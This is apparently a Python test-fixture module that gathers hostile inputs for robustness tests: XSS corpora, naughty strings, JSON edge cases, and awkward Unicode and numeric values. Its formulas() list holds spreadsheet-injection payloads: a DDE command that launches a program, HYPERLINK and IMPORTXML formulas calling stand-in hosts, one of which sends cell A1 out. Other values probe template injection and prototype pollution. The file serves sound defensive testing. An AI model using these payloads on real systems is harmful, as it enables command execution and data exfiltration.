"""Awkward input: public corpora, and what their README says none of them holds."""

import base64
import json
import os
import random
from typing import Any

from tests.public_data import public

# `make hostile` takes everything; a test run takes a part of the large corpora, always the same.
WHOLE = os.environ.get("HOSTILE") == "whole"
SEED = 4


def read(name: str) -> list[Any]:
    found: list[Any] = json.loads(public(f"corpora/{name}.json").read_text())
    return found


def some_of(rows: list[Any], most: int) -> list[Any]:
    """At most so many of them, the same in each run; all when the whole is asked for."""
    if WHOLE or len(rows) <= most:
        return rows
    return random.Random(SEED).sample(rows, most)


def naughty_strings() -> list[str]:
    return [text for text in read("blns") if text.strip()]


def markup() -> list[str]:
    """Scripts and markup of all corpora that hold some; each once, none empty."""
    texts = [
        *some_of(read("xss"), 500),
        *(case["payload"] for case in some_of(read("dompurify"), 60)),
        *(case["markdown"] for case in some_of(read("commonmark"), 60)),
        *naughty_strings(),
    ]
    kept = (text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "") for text in texts)
    return list(dict.fromkeys(text.strip() for text in kept if text.strip()))


def sentences() -> list[str]:
    """What people say of themselves, and how they write addresses and numbers."""
    return [
        *(case["full_text"] for case in some_of(read("presidio"), 25)),
        *(text for text in some_of(addresses(), 25) if text.strip()),
        *(f"+{case['cc']} {case['national']}" for case in some_of(read("phones"), 25)),
    ]


def addresses() -> list[str]:
    """E-mail addresses, right and wrong."""
    given = [case[1] for case in read("emails")]
    return [text if isinstance(text, str) else text[0] for text in given]


def formulas() -> list[str]:
    """What some spreadsheet would compute, were it a cell as it is."""
    return [
        "=1+1", "=cmd|'/C calc'!A0", "+1 415 555 0132", "-2+3", "@SUM(1,2)", "\t=1+1", "\n=1+1",
        " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "−1", "＠A1",
        "﹣1", "﹫A1", "ok;=1+1;ok", "ok\t=1+1", 'x\r\n=HYPERLINK("http://planted.example","x")',
        '=IMPORTXML(CONCAT("http://planted.example/?",A1),"//a")', "\r=1+1", "'=1+1", '"=1+1',
        "=1+1\u202e", "%0A-3+3", "\x0b=1+1",
    ]  # fmt: skip


def json_cases() -> dict[str, bytes]:
    return {case["name"]: base64.b64decode(case["b64"]) for case in read("json-parsing")}


# Each is a text that a visitor could send and that has to be kept as it is.
AWKWARD_TEXTS = {
    "bidi overrides": "\u202emoc.elpmaxe@nna\u202c and \u2066x\u2069",
    "zero width": "A\u200bn\u200cn\u200d \ufeffSmith\u2060",
    "combining flood": "Z" + "\u0301\u0353\u0489" * 1200,
    "an escape that is none": "a \\u0000 b \\\\u0000 \\x00",
    "astral": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0010fffd",
    "controls": "a\x01\x08\x0b\x1b[31mb\x7f\x85",
    "30 digits": "9" * 30,
    "8 KiB of one word": "x" * 8192,
    "formula": '=HYPERLINK("http://evil.example","x")',
    "template": "{{7*7}} ${7*7} <%= 7*7 %> %s %n {0.__class__}",
}
# Values of an edit, as they stand in the frame.
AWKWARD_VALUES = {
    "1e400": "1e400",
    "minus 1e400": "-1e400",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "30-digit integer": "9" * 30,
    "64-bit overflow": "18446744073709551616",
    "half a surrogate": '"\\ud800"',
    "U+0000": '"a\\u0000b"',
    "an escape that is none": '"a \\\\u0000 b"',
    "nested": "[" * 2000 + "]" * 2000,
    "duplicate keys": '{"a":1,"a":2}',
    "an object": '{"__proto__":{"a":1}}',
    "null": "null",
}
DEEP = b"[" * 50_000 + b"]" * 50_000
